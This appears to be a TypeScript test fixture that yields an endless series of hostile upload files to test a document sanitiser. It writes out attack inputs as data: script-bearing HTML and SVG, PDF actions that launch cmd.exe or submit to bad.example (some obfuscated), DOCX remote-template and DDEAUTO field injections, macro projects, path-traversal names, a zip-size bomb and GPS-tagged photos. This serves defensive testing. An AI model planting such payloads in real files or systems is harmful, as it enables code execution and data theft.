/** An endless series of files that no pharmacist should ever open. */
import { randomBytes, randomInt } from 'node:crypto';
import sharp from 'sharp';
import {
  aDocxWith,
  aField,
  link,
  relsOf,
  type DocxMaking,
} from '#tests/server/support/docx-files.ts';
import { aDoc, aDocx, aPhoto, aPng, aZip } from '#tests/server/support/files.ts';
import { aPdf, type PdfMaking } from '#tests/server/support/pdf-files.ts';

export interface HostileFile {
  content: Buffer;
  name: string;
  mime: string;
}

export const docxMime = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const names: [string, string][] = [
  ['a.jpg', 'image/jpeg'],
  ['a.png', 'image/png'],
  ['a.pdf', 'application/pdf'],
  ['a.doc', 'application/msword'],
  ['a.docx', docxMime],
  ['a.html', 'text/html'],
  ['a.svg', 'image/svg+xml'],
  ['../../a.jpg', 'image/jpeg'],
];

const html = Buffer.from('<html><script>alert(1)</script></html>');
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const program = Buffer.concat([Buffer.from('MZ'), randomBytes(400)]);

const actions = [
  '/S /JavaScript /JS (app.alert\\(1\\))',
  '/S /J#61vaScript /JS (x)',
  '/S /Launch /F (cmd.exe)',
  '/S /L#61unch /F (cmd.exe)',
  '/S /SubmitForm /F (https://bad.example)',
  '/S /ImportData /F (a)',
  '/S /GoToR /F (\\\\\\\\bad.example\\\\a) /D [0]',
  '/S /GoToE /D [0]',
];

/** Active PDFs: each action in each place, compressed and not. */
function pdfsWith(action: string): Buffer[] {
  const makings: PdfMaking[] = [
    { catalog: `/OpenAction << ${action} >>` },
    { page: `/AA << /O << ${action} >> >>` },
    { page: `/Annots [<< /Subtype /Link /A << ${action} >> >>]` },
    { objects: [{ n: 9, body: `<< ${action} >>` }] },
  ];
  return makings.flatMap((making) => [aPdf(making), aPdf({ ...making, isPacked: true })]);
}

function docxs(): Buffer[] {
  const outside = link('attachedTemplate', 'https://bad.example/a.dotm', true);
  const makings: DocxMaking[] = [
    { links: [link('attachedTemplate', 'a.dotx')] },
    { links: [link('image', 'https://bad.example/a', true)] },
    { links: [link('hyperlink', 'file:///c:/a.exe', true)] },
    { links: [link('oleObject', 'embeddings/a.bin')] },
    { links: [link('aFChunk', 'a.html')], files: { 'word/a.html': html } },
    { links: [link('control', 'a.xml')] },
    { files: { 'word/_rels/settings.xml.rels': relsOf(`<Relationship Id="r1" ${outside}/>`) } },
    { body: aField(' DDEAUTO c:\\\\cmd.exe') },
    { body: aField(' D', 'DE', 'AUTO c:\\\\cmd.exe') },
    { body: aField(' INCLUDEPICTURE "https://bad.example"') },
    { files: { 'word/vbaProject.bin': program } },
  ];
  return [
    ...makings.map(aDocxWith),
    aDocx('../../etc/cron.d/x'),
    aDocx().subarray(0, -30),
    aZip(['[Content_Types].xml', 'word/document.xml'], 0xf0000000),
    aZip(['[Content_Types].xml', 'xl/workbook.xml']),
  ];
}

/** Pictures with the place where they were taken, or with data hidden behind their end. */
async function pictures(): Promise<[Buffer, number][]> {
  const colour = `#${randomBytes(3).toString('hex')}`;
  const photo = await aPhoto(colour);
  const marked = await sharp(photo).png().withExif(place).toBuffer();
  const half = photo.subarray(0, randomInt(100, photo.length - 100));
  return [
    [photo, 0],
    [marked, 1],
    [Buffer.concat([photo, html]), 0],
    [Buffer.concat([await aPng(), svg]), 1],
    [Buffer.concat([html, photo]), 0],
    [half, 0],
    [photo, 1],
    [marked, 0],
    [photo, 2],
    [aDocxWith({ files: { 'word/media/image1.jpg': photo } }), 4],
  ];
}

const place = {
  IFD0: { Make: 'CanaryCam' },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '23/1 46/1 0/1' },
};

/** An endless series of files: every kind of attack is repeated with other bytes. */
export async function* hostileFiles(): AsyncGenerator<HostileFile> {
  for (;;) {
    for (const [content, at] of await pictures()) yield under(content, at);
    for (let at = 0; at < names.length; at += 1) {
      for (const content of [html, svg, program, aPdf(), aDoc('_VBA_PROJECT'), aDocx()])
        if (!isHonest(content, at)) yield under(content, at);
      yield under(randomBytes(1 + randomInt(4_000)), at);
      yield under(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), randomBytes(900)]), at);
    }
    for (const content of actions.flatMap(pdfsWith)) yield under(content, 2);
    for (const content of docxs()) yield under(content, 4);
    yield under(aPdf({ trailer: '/Encrypt << /Filter /Standard >>' }), 2);
    yield under(aPdf().subarray(0, 300), 2);
    yield under(aDoc('Macros'), 3);
  }
}

/** A plain file under its own name is not an attack. */
function isHonest(content: Buffer, at: number): boolean {
  const starts = (begin: string) => content.subarray(0, begin.length).toString('latin1') === begin;
  return (at === 2 && starts('%PDF')) || (at === 4 && starts('PK'));
}

function under(content: Buffer, at: number): HostileFile {
  const [name = '', mime = ''] = names[at] ?? [];
  return { content, name, mime };
}
